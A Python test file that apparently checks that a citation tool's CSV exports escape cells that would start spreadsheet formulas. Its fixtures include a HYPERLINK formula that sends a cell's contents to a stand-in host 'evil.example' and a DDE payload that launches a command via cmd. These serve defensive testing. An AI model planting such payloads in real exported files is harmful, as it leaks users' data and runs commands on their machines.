"""CSV written by CiteLens opens in a spreadsheet as data: text that would start a formula is marked as text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import CliRunner

from citelens.check import CheckedReference, results_csv
from citelens.cli import EXIT_OK, main
from citelens.collection import collection_csv
from citelens.document import Reference
from citelens.spreadsheet import safe_cell, safe_cells, safe_row

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Sentinel cells")'


def test_a_cell_that_would_start_a_formula_is_text() -> None:
    for text in ("=1+1", "+44 20 7946 0958", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in ("Sentinel cells", "", "1-2", "a=b", 3, -0.5, None, 2.5):
        assert safe_cell(value) == value  # text that starts otherwise, and numbers, stay as they are
    assert safe_row({"title": "=x", "n": -1}) == {"title": "'=x", "n": -1}
    assert safe_cells(["@x", 0]) == ["'@x", 0]


def test_the_statement_export_marks_a_hostile_title_as_text(tmp_path: Path, mini_jats: bytes) -> None:
    """A hostile article's title reaches every statement it makes; `citelens export --format csv` writes it
    with the apostrophe, and --format jsonl keeps it as it is (JSON is not opened by spreadsheets)."""
    hostile = mini_jats.replace(b"Sentinel cells in <italic>E. coli</italic> colonies",
                                HOSTILE_TITLE.replace("&", "&amp;").replace('"', "&quot;").encode())
    (tmp_path / "hostile.xml").write_bytes(hostile)
    db = str(tmp_path / "i.db")
    result = CliRunner().invoke(main, ["ingest", str(tmp_path / "hostile.xml"), "--db", db, "--classifier", "cues",
                                       "--json"], catch_exceptions=False)
    assert result.exit_code == EXIT_OK, result.output
    out = CliRunner().invoke(main, ["export", "--db", db, "--format", "csv"], catch_exceptions=False).output
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and all(r["citing_title"] == "'" + HOSTILE_TITLE for r in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    out = CliRunner().invoke(main, ["export", "--db", db, "--format", "jsonl"], catch_exceptions=False).output
    assert json.loads(out.splitlines()[0])["citing_title"] == HOSTILE_TITLE


def test_check_and_collection_csv_mark_hostile_text() -> None:
    ref = Reference(key="1", raw="=cmd|' /C calc'!A0", title="@SUM(1)")
    table = list(csv.DictReader(io.StringIO(results_csv([CheckedReference(index=1, raw=ref.raw, reference=ref)]))))
    assert table[0]["raw"] == "'=cmd|' /C calc'!A0" and table[0]["title"] == "'@SUM(1)"
    row = {"position": 0, "doi": "", "work_id": "", "title": "-1+1", "year": 2020, "found": False,
           "supporting": 0, "contrasting": 0, "mentioning": 0, "total": 0, "citing_publications": 0,
           "retracted": False, "notices": [], "warnings": ["+not found"]}
    table = list(csv.DictReader(io.StringIO(collection_csv([row]))))
    assert table[0]["title"] == "'-1+1" and table[0]["warnings"] == "'+not found"
